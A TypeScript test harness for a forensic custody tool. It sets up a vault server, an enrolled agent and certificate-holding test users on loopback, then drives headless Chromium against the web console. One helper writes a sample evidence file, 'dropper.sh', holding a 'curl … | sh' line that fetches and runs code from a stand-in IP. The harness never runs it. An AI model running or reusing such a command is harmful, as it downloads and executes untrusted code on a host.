import { type ChildProcess, spawn, spawnSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { getCACertificates, setDefaultCACertificates } from "node:tls";
import { type Browser, type BrowserContext, chromium } from "playwright-core";
// The built client (dist/), so this file also runs under plain node (scripts/console-screenshots.mjs).
import { createVaultClient, parseTlsIdentity, type VaultClient } from "../../packages/client/dist/index.js";
import { takeNetworkLock } from "../support/network-lock.ts";

// The web console in a real browser against real processes on loopback: a vault made by `custody init`,
// `custody serve`, an agent enrolled with `custody agent enroll` and running as `custody agent run`, and
// Debian's Chromium driven by playwright-core, each person signing in with the vault's client certificate.

/** Debian's Chromium (scripts/test-packages.txt); no browser is downloaded. */
export const CHROMIUM = process.env.CUSTODY_CHROMIUM ?? "/usr/bin/chromium";
/** Why the browser tests cannot run here, or undefined when they can. */
export const browserMissing: string | undefined = existsSync(CHROMIUM)
  ? existsSync(join(import.meta.dirname, "..", "..", "packages", "console", "dist", "index.html"))
    ? undefined
    : "the console is not built: run `pnpm run build`"
  : `needs Debian's chromium at ${CHROMIUM} (scripts/test-packages.txt)`;

const ROOT = join(import.meta.dirname, "..", "..");
const BIN = join(ROOT, "packages", "cli", "dist", "bin.js");

/**
 * The people of the walk-through. alice made the vault (custodian); bob is the second custodian;
 * rita is a responder on the case and its device (live response with getfile, evidence of the case) and
 * an analyst of the case (its custody reports);
 * eve holds a valid certificate and no grant at all.
 */
export type PersonName = "alice" | "bob" | "rita" | "eve";

export interface Person {
  name: PersonName;
  /** The identity file as `custody` issues it (certificate, key, vault CA). */
  identityPem: string;
  identityPath: string;
}

export interface Harness {
  /** The server's origin, `https://127.0.0.1:PORT`. */
  url: string;
  ca: string;
  work: string;
  caseId: string;
  deviceId: string;
  /** A folder on the device with files to look at and take. */
  deviceFiles: string;
  people: Record<PersonName, Person>;
  /** alice's API client, to set up and to check what the pages did. */
  alice: VaultClient;
  browser: Browser;
  /** A fresh browser profile signed in as a person, or with no certificate at all. */
  context(person?: PersonName): Promise<BrowserContext>;
  /** The CLI, as a person (or with the vault's local access when no identity is given). */
  custody(args: string[], input?: string): { code: number | null; stdout: string; stderr: string };
  close(): Promise<void>;
}

export const CASE_ID = "IR-2026-15";

export async function startHarness(): Promise<Harness> {
  // Chromium aborts what is in flight when the host's interfaces change: no network namespace meanwhile
  const releaseNetwork = await takeNetworkLock();
  const work = mkdtempSync(join(tmpdir(), "custody-browser-"));
  const vault = join(work, "vault");
  const children: ChildProcess[] = [];
  const custody = (args: string[], input?: string) => {
    const result = spawnSync(process.execPath, [BIN, ...args], {
      cwd: work,
      env: { ...process.env, CUSTODY_VAULT: vault },
      encoding: "utf8",
      ...(input === undefined ? {} : { input }),
    });
    return { code: result.status, stdout: result.stdout, stderr: result.stderr };
  };
  let browser: Browser | undefined;
  let alice: VaultClient | undefined;
  const close = async () => {
    alice?.close();
    await browser?.close();
    for (const child of children.reverse()) {
      child.kill("SIGTERM");
      if (child.exitCode === null && child.signalCode === null)
        await new Promise((resolve) => child.once("exit", resolve));
    }
    releaseNetwork();
    rmSync(work, { recursive: true, force: true });
  };
  try {
    const alicePath = join(work, "alice.pem");
    const init = custody(["init", "--name", "alice", "--identity-out", alicePath]);
    if (init.code !== 0) throw new Error(`custody init: ${init.stderr}`);
    children.push(
      await start(work, ["serve", "--vault", vault, "--listen", "127.0.0.1:0", "--name", "127.0.0.1"]),
    );
    const url = (JSON.parse(readFileSync(join(vault, "server.json"), "utf8")) as { urls: string[] }).urls[0];
    if (url === undefined) throw new Error("custody serve wrote no URL");
    const ca = readFileSync(join(vault, "pki", "ca.pem"), "utf8");
    writeFileSync(join(work, "ca.pem"), ca);
    alice = createVaultClient({ baseUrl: url, identityPem: readFileSync(alicePath, "utf8") });
    const people = await issuePeople(alice, work, readFileSync(alicePath, "utf8"));
    const deviceId = await enrollAgent(alice, work, url, custody, children);
    await grantPeople(alice, deviceId);
    const deviceFiles = writeDeviceFiles(work);
    // Playwright's client-certificate proxy checks the server against Node's default CAs: add the vault's.
    setDefaultCACertificates([...new Set([...getCACertificates("default"), ca])]);
    browser = await chromium.launch({ executablePath: CHROMIUM, headless: true });
    const opened = browser;
    const context = (person?: PersonName) =>
      opened.newContext({
        // without a certificate there is no proxy to check the server: the browser is told to accept it
        ...(person === undefined ? { ignoreHTTPSErrors: true } : {}),
        clientCertificates: person === undefined ? [] : [certificateFor(url, people[person])],
        viewport: { width: 1280, height: 800 },
        locale: "en-GB",
        timezoneId: "UTC",
      });
    return {
      url,
      ca,
      work,
      caseId: CASE_ID,
      deviceId,
      deviceFiles,
      people,
      alice,
      browser,
      context,
      custody,
      close,
    };
  } catch (error) {
    await close();
    throw error;
  }
}

function certificateFor(origin: string, person: Person) {
  const { certificatePem, keyPem } = parseTlsIdentity(person.identityPem);
  return { origin, cert: Buffer.from(certificatePem), key: Buffer.from(keyPem) };
}

async function issuePeople(alice: VaultClient, work: string, alicePem: string) {
  const people = {
    alice: { name: "alice", identityPem: alicePem, identityPath: join(work, "alice.pem") },
  } as Record<PersonName, Person>;
  for (const name of ["bob", "rita", "eve"] as const) {
    const { identityPem } = await alice.issueIdentity(name, "person");
    const identityPath = join(work, `${name}.pem`);
    writeFileSync(identityPath, identityPem, { mode: 0o600 });
    people[name] = { name, identityPem, identityPath };
  }
  return people;
}

async function grantPeople(alice: VaultClient, deviceId: string): Promise<void> {
  for (const scope of [`device:${deviceId}`, `case:${CASE_ID}`])
    await alice.grant({ name: "rita", role: "responder", scope });
  // a responder takes evidence but reads no custody report: the analyst role over the case adds that
  await alice.grant({ name: "rita", role: "analyst", scope: `case:${CASE_ID}` });
  // with one custodian, alice acts alone: the second custodian needs nobody's approval
  await alice.grant({ name: "bob", role: "custodian", scope: "*" });
}

async function enrollAgent(
  alice: VaultClient,
  work: string,
  url: string,
  custody: Harness["custody"],
  children: ChildProcess[],
): Promise<string> {
  await alice.setLiveResponse(true);
  const { token } = await alice.createEnrollmentToken({ caseId: CASE_ID });
  const enrolled = custody(
    ["agent", "enroll", "--server", url, "--token", token, "--dir", "agent"].concat([
      "--ca",
      "ca.pem",
      "--json",
    ]),
  );
  if (enrolled.code !== 0) throw new Error(`custody agent enroll: ${enrolled.stderr}`);
  const { deviceId } = JSON.parse(enrolled.stdout) as { deviceId: string };
  writeFileSync(join(work, "policy.json"), custody(["agent", "policy"]).stdout, { mode: 0o600 });
  children.push(
    await start(work, ["agent", "run", "--dir", join(work, "agent"), "--policy", join(work, "policy.json")]),
  );
  await until(async () => {
    const devices = await alice.listDevices();
    return devices.find((d) => d.deviceId === deviceId)?.online === true ? true : undefined;
  }, "the agent online");
  return deviceId;
}

function writeDeviceFiles(work: string): string {
  const dir = join(work, "device-files");
  mkdirSync(dir, { recursive: true });
  writeFileSync(join(dir, "dropper.sh"), "#!/bin/sh\ncurl http://203.0.113.9/x | sh\n");
  writeFileSync(join(dir, "notes.txt"), "what the analyst wrote down\n");
  return dir;
}

/** A long-running `custody` process, once it says it is up (serve: "listening on", agent: connected). */
function start(work: string, args: string[]): Promise<ChildProcess> {
  const ready = args[0] === "serve" ? /listening on/ : /welcome|connected|agent starting/;
  const child = spawn(process.execPath, [BIN, ...args], {
    cwd: work,
    env: { ...process.env, CUSTODY_LOG_LEVEL: "info" },
    stdio: ["ignore", "pipe", "pipe"],
  });
  let output = "";
  return new Promise((resolve, reject) => {
    const seen = (chunk: Buffer) => {
      output += chunk.toString();
      if (ready.test(output)) resolve(child);
    };
    child.stdout?.on("data", seen);
    child.stderr?.on("data", seen);
    child.once("exit", (code) => reject(new Error(`custody ${args[0]} exited ${code}: ${output}`)));
  });
}

/** Polls until `check` gives a value (at most a minute: the machine may be loaded). */
export async function until<T>(check: () => Promise<T | undefined>, what: string): Promise<T> {
  for (let i = 0; i < 1200; i += 1) {
    const value = await check();
    if (value !== undefined) return value;
    await new Promise((resolve) => setTimeout(resolve, 50));
  }
  throw new Error(`never happened: ${what}`);
}
